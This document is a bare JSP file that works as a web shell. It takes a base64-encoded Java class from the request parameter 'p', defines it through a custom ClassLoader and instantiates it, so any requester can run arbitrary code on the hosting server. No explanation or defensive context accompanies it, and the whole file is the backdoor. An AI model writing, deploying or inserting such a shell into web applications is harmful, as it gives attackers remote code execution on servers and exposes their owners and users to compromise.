<%! class U extends ClassLoader { U(ClassLoader c) { super(c); } public Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } %>
<% byte[] d = java.util.Base64.getDecoder().decode(request.getParameter("p")); new U(this.getClass().getClassLoader()).g(d).newInstance(); %>
